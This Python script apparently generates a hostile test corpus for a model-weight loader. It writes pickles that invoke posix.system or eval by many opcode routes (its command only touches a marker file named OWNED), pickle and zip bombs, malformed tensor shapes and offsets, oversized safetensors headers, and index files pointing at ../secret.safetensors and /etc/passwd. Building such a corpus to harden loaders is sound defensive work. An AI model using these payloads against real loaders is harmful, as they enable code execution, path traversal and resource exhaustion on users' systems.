#!/usr/bin/env python3
"""Writes files that attack a reader of model weights.

    scripts/make_hostile.py OUTDIR

Plain Python, 380 MB in all. Every file must be refused, in well under a second and 200 MB, with a message
that names it; none of them may be run. Those that carry a command would create OUTDIR/OWNED.
"""

import json
import pickletools
import struct
import sys
import zlib
from pathlib import Path

MAGIC = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
HEAD = MAGIC + b"\x80\x02M\xe9\x03." + b"\x80\x02}X\x0d\x00\x00\x00little_endian\x88s."
HUGE = 1 << 62
LARGE = 99_000_000


# --- pickles: instructions that each leave one value on the stack
def text(value):
    value = value.encode()
    return b"X" + struct.pack("<I", len(value)) + value


def integer(value):
    return b"\x8a\x08" + struct.pack("<q", value)


def name(module, function):
    return f"c{module}\n{function}\n".encode()


def group(*items):
    return b"(" + b"".join(items) + b"t"


def dictionary(**items):
    return b"}(" + b"".join(text(key) + value for key, value in items.items()) + b"u"


def storage(count, key="0", type="FloatStorage"):
    return group(text("storage"), name("torch", type), text(key), text("cpu"), integer(count)) + b"Q"


def tensor(of, offset, shape, strides):
    arguments = group(
        of,
        integer(offset),
        group(*map(integer, shape)),
        group(*map(integer, strides)),
        b"\x89",
        name("collections", "OrderedDict") + b")R",
    )
    return name("torch._utils", "_rebuild_tensor_v2") + arguments + b"R"


def pickle(value, protocol=2):
    return bytes([0x80, protocol]) + value + b"."


# --- zip archives
def zip_archive(members, claimed=None, directory_at=None):
    """`members`: (name, data, changes), changes of method, size, packed, at and crc in the headers."""
    body, directory = b"", b""
    for member, data, changes in members:
        member = member.encode()
        common = struct.pack(
            "<HHHHHIIIH",
            20,
            changes.get("flags", 0),
            changes.get("method", 0),
            0,
            0,
            changes.get("crc", zlib.crc32(data)),
            changes.get("packed", len(data)),
            changes.get("size", len(data)),
            len(member),
        )
        place = changes.get("at", len(body))
        directory += b"PK\x01\x02\x14\0" + common + struct.pack("<HHHHII", 0, 0, 0, 0, 0, place) + member
        body += b"PK\x03\x04" + common + b"\0\0" + member + data
    count = len(members) if claimed is None else claimed
    place = len(body) if directory_at is None else directory_at
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(directory), place, 0)
    return body + directory + end


def torch_zip(value, *storages, protocol=2):
    members = [("m/data.pkl", pickle(value, protocol), {}), ("m/byteorder", b"little", {})]
    members += [(f"m/data/{i}", data, {}) for i, data in enumerate(storages)]
    return zip_archive(members)


def state(shape, strides, offset=0, count=4):
    return torch_zip(dictionary(w=tensor(storage(count), offset, shape, strides)), bytes(16))


def calls(owned):
    """Pickles that would create the file `owned`, each in another way."""
    command = text(f"touch {owned}")
    system = name("posix", "system")
    evaluated = text(f"open({str(owned)!r}, 'w')")
    return {
        "system": system + command + b"\x85R",
        "eval": name("builtins", "eval") + evaluated + b"\x85R",
        "python2_eval": name("__builtin__", "eval") + evaluated + b"\x85R",
        "stack_global": b"\x8c\x05posix\x8c\x06system\x93" + command + b"\x85R",
        "stack_global_of_memo": b"\x8c\x05posixq\x000\x8c\x06systemq\x010h\x00h\x01\x93" + command + b"\x85R",
        "inst": b"(" + command + b"iposix\nsystem\n",
        "obj": b"(" + system + command + b"o",
        "newobj": system + command + b"\x85\x81",
        "newobj_ex": system + command + b"\x85}\x92",
        "build": name("argparse", "Namespace") + b")\x81" + dictionary(x=system + command + b"\x85R") + b"b",
        "build_on_text": text("x") + dictionary(x=b"N") + b"b",
        "ext1": b"\x82\x01",
        "ext2": b"\x83\x01\x00",
        "ext4": b"\x84\x01\x00\x00\x00",
        "dropped": system + b"0" + dictionary(w=tensor(storage(4), 0, [4], [1])),
        "in_arguments": dictionary(args=system + command + b"\x85R", state_dict=b"}"),
        "load_in_load": name("torch.storage", "_load_from_bytes") + b"C\x00\x85R",
        "getattr": name("builtins", "getattr") + name("torch", "Size") + text("mro") + b"\x86R",
        "dotted": b"\x8c\x05torch\x8c\x16_utils.os.posix.system\x93" + command + b"\x85R",
    }


def pickle_bombs():
    doubled = b")" + b"2\x86" * 1_000_000
    return {
        "memo": b"]r" + struct.pack("<I", 1 << 31),
        "text_of_2_to_63": b"\x8d" + struct.pack("<Q", 1 << 63),
        "doubled": doubled,
        "nested": b"]" * 1_000_000 + b"a" * 999_999,
        "stack": b"N" * 5_000_000,
        "values": b"(" + b"]" * 3_000_000 + b"t",
        "numbers": b"(" + b"K\x01" * 3_000_000 + b"t",
        "marks": b"(" * 3_000_000 + b"N",
    }


def wrapped(values):
    for key, value in values.items():
        protocol = 4 if b"\x93" in value or b"\x92" in value or b"\x8d" in value else 2
        yield f"{key}.zip.pt", torch_zip(value, bytes(16), protocol=protocol)
        yield f"{key}.stream.pt", HEAD + pickle(value, protocol) + b"\x80\x02]."
    yield "bare.pt", pickle(values.get("system", b"]q\xff"))


def tensors():
    return {
        "shape_of_2_to_62.pt": state([HUGE], [1]),
        "repeated_2_to_62.pt": state([HUGE], [0]),
        "shape_wraps_around.pt": state([HUGE, 4], [0, 0]),
        "strides_wrap_around.pt": state([3, 3], [HUGE, HUGE]),
        "negative_shape.pt": state([-4], [1]),
        "negative_stride.pt": state([4], [-1], offset=3),
        "negative_offset.pt": state([4], [1], offset=-1),
        "offset_beyond.pt": state([4], [1], offset=1),
        "storage_of_2_to_62.pt": state([4], [1], count=HUGE),
        "storage_beyond_member.pt": state([4], [1], count=5),
        "storage_is_the_pickle.pt": torch_zip(dictionary(w=tensor(storage(4, "../data.pkl"), 0, [4], [1]))),
        "stream_without_data.pt": HEAD
        + pickle(dictionary(w=tensor(storage(HUGE >> 2), 0, [HUGE >> 2], [1])))
        + pickle(b"]" + text("0") + b"a")
        + struct.pack("<q", HUGE >> 2),
    }


def deflated(size):
    """`size` zeros, packed: the same 16 MB again and again."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(1 << 24)) + packer.flush(zlib.Z_FULL_FLUSH)
    return block * (size >> 24) + packer.flush()


def archives():
    good = pickle(dictionary(w=tensor(storage(4), 0, [4], [1])))
    data = ("m/data.pkl", good, {})
    zeros, one = (("m/data/0", bytes(16), {}), ("m/data/1", bytes(16), {}))
    ten = deflated(10 << 30)
    lie = {"method": 8, "size": 0xFFFFFFF0}
    whole = zip_archive([data, zeros])
    many = [(f"m/data/{i}", b"", {}) for i in range(60_000)]
    kernel = bytes(1000)
    overlap = [(f"m/data/{i:04}", kernel, {"at": 0}) for i in range(1000)]
    nested = whole
    for _ in range(20):
        nested = zip_archive([("archive/model.pt", nested, {})])
    return {
        "storage_of_10_gb.pt": zip_archive([data, ("m/data/0", ten, lie)]),
        "pickle_of_10_gb.pt": zip_archive([("m/data.pkl", ten, lie), zeros]),
        "overlapping.pt": zip_archive([*overlap, data]),
        "member_in_member.pt": zip_archive([("m/data/0", zip_archive([one]), {}), ("m/data/1", bytes(16), {"at": 38}), data]),
        "nested.pt": nested,
        "two_of_one_name.pt": zip_archive([data, zeros, zeros]),
        "encrypted.pt": zip_archive([data, ("m/data/0", bytes(16), {"flags": 1})]),
        "big_endian.pt": zip_archive([data, ("m/byteorder", b"big", {}), zeros]),
        "claims_65535_members.pt": zip_archive([data, zeros], claimed=65535),
        "members_60000.pt": zip_archive(many),
        "directory_beyond.pt": zip_archive([data, zeros], directory_at=0x7FFFFFFF),
        "member_beyond.pt": zip_archive([data, ("m/data/0", bytes(16), {"at": 0x7FFFFFFF})]),
        "packed_beyond.pt": zip_archive([data, ("m/data/0", bytes(16), {"packed": 1 << 30, "size": 1 << 30})]),
        "cut.pt": whole[:-10],
        "ends_only.pt": b"PK\x03\x04" + b"PK\x05\x06" * 16_000,
    }


def safetensors(header, data=b""):
    header = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(header)) + header + data


def one(shape, begin, end, type="F32"):
    return {"dtype": type, "shape": shape, "data_offsets": [begin, end]}


def tiny_tensors(size):
    """A valid header of about `size` bytes: nothing but tensors of no elements."""
    item = '"%08d":{"dtype":"U8","shape":[0],"data_offsets":[0,0]}'
    return ("{" + ",".join(item % i for i in range(size // (len(item % 0) + 1))) + "}").encode()


def headers():
    return {
        "nested_99_mb.safetensors": safetensors(b"[" * LARGE),
        "text_99_mb.safetensors": safetensors(b'{"' + b"x" * LARGE + b'":1}'),
        "text_4_mb.safetensors": safetensors(b'{"' + b"x" * 3_990_000 + b'":1}'),
        "tiny_tensors_99_mb.safetensors": safetensors(tiny_tensors(LARGE)),
        "tiny_tensors_4_mb_and_junk.safetensors": safetensors(tiny_tensors(3_990_000), b"junk"),
        "overlapping.safetensors": safetensors({"a": one([4], 0, 16), "b": one([4], 8, 24)}, bytes(24)),
        "all_the_same.safetensors": safetensors({f"{i}": one([4], 0, 16) for i in range(1000)}, bytes(16)),
        "shape_of_2_to_62.safetensors": safetensors({"a": one([HUGE], 0, 16)}, bytes(16)),
        "shape_wraps_around.safetensors": safetensors({"a": one([1 << 32, 1 << 32], 0, 0)}),
        "offsets_of_2_to_62.safetensors": safetensors({"a": one([HUGE >> 2], 0, HUGE)}),
        "header_beyond.safetensors": struct.pack("<Q", 99_000_000) + b"{}",
        "header_of_2_to_64.safetensors": b"\xff" * 8 + b"{}",
    }


def indexes():
    return {
        "parent/model.safetensors.index.json": b'{"weight_map": {"x": "../secret.safetensors"}}',
        "absolute/model.safetensors.index.json": b'{"weight_map": {"x": "/etc/passwd"}}',
        "itself/model.safetensors.index.json": b'{"weight_map": {"x": "model.safetensors.index.json"}}',
        "nested/model.safetensors.index.json": b"[" * 5_000_000,
    }


def main():
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    out = Path(sys.argv[1])
    out.mkdir(parents=True, exist_ok=True)
    owned = out.resolve() / "OWNED"
    attacks = calls(owned)
    for value in attacks.values():
        pickletools.dis(pickle(value, 4), out=open("/dev/null", "w"))  # each is a whole pickle
    files = {f"call_{file}": content for file, content in wrapped(attacks)}
    files |= {f"bomb_{file}": content for file, content in wrapped(pickle_bombs())}
    files |= {f"tensor_{file}": content for file, content in tensors().items()}
    files |= {f"zip_{file}": content for file, content in archives().items()}
    files |= headers() | indexes()
    for file, content in files.items():
        (out / file).parent.mkdir(exist_ok=True)
        (out / file).write_bytes(content)
    print(f"{len(files)} files, {sum(map(len, files.values())) / 1e6:.0f} MB in {out}")


if __name__ == "__main__":
    main()
